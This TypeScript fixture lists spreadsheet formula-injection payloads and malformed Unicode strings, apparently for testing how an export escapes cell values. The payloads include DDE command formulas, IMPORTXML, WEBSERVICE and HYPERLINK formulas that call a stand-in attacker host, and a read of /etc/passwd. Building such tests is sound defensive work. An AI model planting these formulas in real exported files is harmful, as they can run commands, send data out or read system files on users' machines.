/** Known texts that make spreadsheets compute, send requests or crash. */
const PAYLOADS: readonly string[] = [
  "=cmd|'/C calc'!A0",
  '=1+1',
  '=HYPERLINK("http://evil.example","Нажмите")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  "=DDE('cmd';'/C calc';'x')",
  "='file:///etc/passwd'#$passwd.A1",
  '=SUM(1;2)',
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-1-1',
  "-2+3+cmd|'/C calc'!A0",
  '@SUM(1+1)*cmd',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u00a0=1+1',
  '"=1+1',
  "'=1+1",
  ';=1+1',
  ',=1+1',
  '{=1+1}',
  '%0A=1+1',
  '_x003D_1+1',
  '_x0000__x005F_x0041_',
  '<f>1+1</f>',
  '</t></si><si><t>',
  '&lt;&amp;&#61;1+1',
  ']]><!--=1+1-->',
  '|calc',
  '12:00',
  '-5 °C, забой № 3',
];

/** Forms of a text in a field. */
const SHAPES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => ` ${text}`,
  (text) => `${text} `,
  (text) => `"${text}"`,
  (text) => `Участок\n${text}`,
];

/** Texts that no file format can store unchanged. */
export const UNFIT: readonly string[] = [
  'a\u0000b\u0001c\u0008d\u000be\u000cf\u001fg\u007fh\u0085i',
  'перед\ufffeпосле\uffff',
  'пара \ud83d\ude00, половины \ud83d и \ude00',
  '\ufdd0\ufdef',
  `${'ы'.repeat(32_766)}\ud83d\ude00`,
  'ы'.repeat(40_000),
];

/** Every payload in every shape: 200 texts. */
export const TEXTS: readonly string[] = PAYLOADS.flatMap((payload) => SHAPES.map((shape) => shape(payload)));
